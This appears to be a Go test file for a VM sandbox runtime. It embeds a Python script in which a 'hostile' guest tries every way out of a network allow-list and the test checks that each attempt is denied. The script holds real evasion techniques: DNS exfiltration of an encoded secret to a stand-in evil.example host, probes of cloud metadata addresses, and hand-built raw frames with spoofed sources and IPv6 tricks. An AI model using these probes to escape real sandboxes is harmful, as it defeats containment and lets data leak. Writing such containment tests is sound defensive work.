package runtime

import (
	"fmt"
	"net"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// waysOut tries to leave a box that may reach names below allowed.example only. What
// gets an answer is printed as REACHED. The last part sends frames of its own making,
// which the guest's kernel, its routes and its resolver have no say in.
const waysOut = `
import socket, struct, sys
port, published = int(sys.argv[1]), int(sys.argv[2])

def tcp(host, port, hello=b"GET / HTTP/1.1\r\nHost: www.allowed.example\r\n\r\n"):
    try:
        with socket.create_connection((host, port), timeout=10) as s:
            s.sendall(hello)
            print("REACHED tcp", host, port, s.recv(100))
    except OSError:
        pass

def udp(host, port, data=b"x"):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(10)
        try:
            u.connect((host, port))
            u.send(data)
            print("REACHED udp", host, port, u.recv(100))
        except TimeoutError:
            print("NOT TOLD udp", host, port)
        except OSError:
            pass

def query(name, kind):
    q = struct.pack(">6H", 0x1234, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">2H", kind, 1)

# The gateway's resolver, by both transports and every type that carries data out or in.
for kind in 1, 5, 10, 15, 16, 28, 33, 64, 65, 255:
    q = query("c2VjcmV0.evil.example", kind)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        u.settimeout(10)
        u.sendto(q, ("192.168.127.1", 53))
        code = u.recv(4096)[3] & 15
    with socket.create_connection(("192.168.127.1", 53), timeout=10) as s:
        s.sendall(struct.pack(">H", len(q)) + q)
        code2 = s.recv(4096)[5] & 15
    if (code, code2) != (3, 3):
        print("REACHED resolver", kind, code, code2)
for name in "evil.example", "allowed.example", "notallowed.example", "www.allowed.example.evil.example", "localhost.evil", "169.254.169.254.nip.io":
    try:
        print("REACHED name", name, socket.getaddrinfo(name, 80))
    except OSError:
        pass

# Other resolvers, QUIC, plain addresses, ports of this machine and of other boxes.
for host in "8.8.8.8", "1.1.1.1", "192.0.2.1":
    tcp(host, 53, struct.pack(">H", len(q)) + q)
    udp(host, 53, q)
    tcp(host, 853)
    udp(host, 443)
    tcp(host, 443)
    tcp(host, 80)
for host in "host.boxlite.internal", "192.168.127.1", "192.168.127.254", "192.168.127.77", "169.254.169.254", "100.100.100.200", "10.0.0.1", "172.17.0.1", "0.0.0.1", "255.255.255.255":
    for p in port, published, 80:
        tcp(host, p)
    udp(host, port)

# Frames: no route, no neighbour table, no source address selection.
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
guest, gateway = bytes.fromhex("5a94efe40cee"), bytes.fromhex("5a94efe40cdd")
guest4, guest6 = socket.inet_aton("192.168.127.2"), socket.inet_pton(socket.AF_INET6, "fd62:6f78:6c69::2")

def sum16(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def frame(dst, proto, body, at, src=None):
    six = ":" in dst
    dst = socket.inet_pton(socket.AF_INET6 if six else socket.AF_INET, dst)
    src = src or (guest6 if six else guest4)
    if at >= 0:
        pseudo = src + dst + (struct.pack(">I3xB", len(body), proto) if six else struct.pack(">xBH", proto, len(body)))
        if proto == 1:
            pseudo = b""
        body = body[:at] + struct.pack(">H", sum16(pseudo + body)) + body[at + 2:]
    if six:
        return gateway + guest + b"\x86\xdd" + struct.pack(">IHBB", 6 << 28, len(body), proto, 64) + src + dst + body
    h = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, proto, 0) + src + dst
    return gateway + guest + b"\x08\x00" + h[:10] + struct.pack(">H", sum16(h)) + h[12:] + body

def syn(sport, dport):
    return struct.pack(">HHIIBBHHH", sport, dport, 1, 0, 0x50, 2, 65535, 0, 0)

sport = 20000
for dst in ("127.0.0.1", "127.9.9.9", "0.0.0.0", "169.254.169.254", "169.254.170.2", "168.63.129.16", "192.168.127.254", "224.0.0.1",
            "::1", "::", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::7f00:1",
            "2002:7f00:1::1", "2001:0:7f00:1::", "fd00:ec2::254", "fe80::1", "fec0::1", "fd62:6f78:6c69::fe", "2606:4700::1111", "ff02::1"):
    sport += 1
    v6 = ":" in dst
    raw.send(frame(dst, 6, syn(sport, port), 16))
    raw.send(frame(dst, 17, struct.pack(">HHHH", sport, port, 9, 0) + b"x", 6))
    raw.send(frame(dst, 58 if v6 else 1, struct.pack(">BBHHH", 128 if v6 else 8, 0, 0, sport, 1) + b"ping", 2))
    if v6: # behind an extension header, which says less than it seems
        raw.send(frame(dst, 60, bytes([58, 0, 1, 4, 0, 0, 0, 0]) + struct.pack(">BBHHH", 128, 0, 0, sport, 2) + b"ping", -1))
    for spoofed in ("192.168.127.9", "127.0.0.1") if not v6 else ("::1", "fd62:6f78:6c69::9"):
        src = socket.inet_pton(socket.AF_INET6 if v6 else socket.AF_INET, spoofed)
        raw.send(frame(dst, 6, syn(sport, port), 16, src))

# One more turn through the stack, so that all of the above was judged.
tcp("192.0.2.99", 9)
raw.settimeout(0.2)
try:
    while True:
        p = raw.recv(2000)
        ip6 = p[12:14] == b"\x86\xdd"
        proto, body = (p[20], p[54:]) if ip6 else (p[23], p[34:])
        # To nobody but the gateway itself may come what is not a reset or an error.
        if p[:6] == guest and (proto == 6 and body[13] & 0x12 == 0x12 or proto == 1 and body[0] == 0 or proto == 58 and body[0] == 129):
            print("REACHED frame", p.hex())
except OSError:
    pass
print("done")
`

// TestGuestNetworkPolicy has a hostile guest try each way out of its policy.
func TestGuestNetworkPolicy(t *testing.T) {
	ctx := testContext(t)
	rt := newGuestRuntime(t)
	port := hostServer(t, func(c net.Conn) { c.Write([]byte("reached")) })
	served, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4zero, Port: port})
	require.NoError(t, err)
	defer served.Close()
	got := make(chan string, 100)
	go func() {
		buf := make([]byte, 100)
		for {
			n, from, err := served.ReadFromUDPAddrPort(buf)
			if err != nil {
				close(got)
				return
			}
			got <- fmt.Sprintf("%v: %q", from, buf[:n])
		}
	}()
	neighbour, err := rt.Create(ctx, BoxOptions{CPUs: 1, MemoryMiB: 96, Rootfs: smallBox(t).Rootfs, Ports: []PortSpec{{GuestPort: 80}}}, "neighbour")
	require.NoError(t, err)
	require.NoError(t, neighbour.Start(ctx))
	t.Cleanup(func() { neighbour.Stop(ctx) })
	info, err := neighbour.Info(ctx)
	require.NoError(t, err)

	opts := pythonBox()
	for i := range 1000 { // a list as large as they get
		opts.Network.Allow = append(opts.Network.Allow, fmt.Sprintf("n%d.listed.example:443", i))
	}
	opts.Network.Allow = append(opts.Network.Allow, "*.allowed.example", "icmp:*.allowed.example")
	b, err := rt.Create(ctx, opts, "hostile")
	require.NoError(t, err)
	t.Cleanup(func() { b.Stop(ctx) })
	out, errs, res := output(t, b, Command("python3", "-c", waysOut, strconv.Itoa(port), strconv.Itoa(int(info.Ports[0].HostPort))))
	require.Zero(t, res.ExitCode, errs)
	require.Equal(t, "done\n", out)
	select {
	case text := <-got:
		t.Errorf("a datagram left the box: %s", text)
	default:
	}

	denied := map[string]int{}
	require.Eventually(t, func() bool {
		clear(denied)
		for f, err := range b.Flows(ctx, LogOptions{}) {
			require.NoError(t, err)
			require.Equal(t, "deny", f.Action, "%+v", f)
			require.Zero(t, f.Sent+f.Received, "%+v", f)
			if f.To.IsValid() {
				denied[string(f.Protocol)+" "+f.To.Addr().String()]++
			} else {
				denied[string(f.Protocol)+" "+f.Name]++
			}
		}
		return denied["tcp 192.0.2.99"] > 0
	}, time.Minute, 100*time.Millisecond)
	for _, want := range strings.Fields("tcp/8.8.8.8 udp/1.1.1.1 tcp/169.254.169.254 udp/169.254.169.254 icmp/169.254.169.254 tcp/192.168.127.254 " +
		"tcp/64:ff9b::7f00:1 udp/64:ff9b::a9fe:a9fe icmp/2002:7f00:1::1 tcp/fd00:ec2::254 tcp/2606:4700::1111 dns/c2vjcmv0.evil.example dns/allowed.example") {
		require.NotZero(t, denied[strings.Replace(want, "/", " ", 1)], "%s was not tried: %v", want, denied)
	}
	out, errs, res = output(t, neighbour, sh("true")) // it lives
	require.Zero(t, res.ExitCode, out+errs)
}
